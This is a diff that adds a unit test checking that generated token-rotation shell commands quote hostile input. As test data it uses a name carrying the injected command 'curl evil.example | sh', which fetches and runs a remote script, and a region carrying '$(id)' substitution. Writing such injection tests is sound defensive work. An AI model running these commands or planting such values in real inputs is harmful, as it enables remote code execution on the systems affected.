@@ -195,6 +195,22 @@ describe('rotationSteps', () => {
     expect(steps[4]?.command).not.toContain('rm -rf');
   });
 
+  it('quotes for the shell what a forged message could put in the command', () => {
+    const name = 'x; curl evil.example | sh';
+    const steps = rotationSteps({
+      consoleUrl: payload.consoleUrl,
+      tokenName: name,
+      region: 'eu-west-1$(id)',
+      parameterName: `/odd prefix/${name}`,
+      identityProvider: 'okta',
+      tokenId: 'x',
+      tokenSource: 'json',
+    });
+    expect(steps[4]?.command).toBe(
+      "npx scim-token-monitor register 'x; curl evil.example | sh' --overwrite --created-at today --token-id <new token ID> --region eu-west-1\\$\\(id\\) --prefix '/odd prefix/'",
+    );
+  });
+
   it('records the new token with one command: the token, today, the region and a non-default prefix', () => {
     const steps = rotationSteps({
       consoleUrl: 'u',
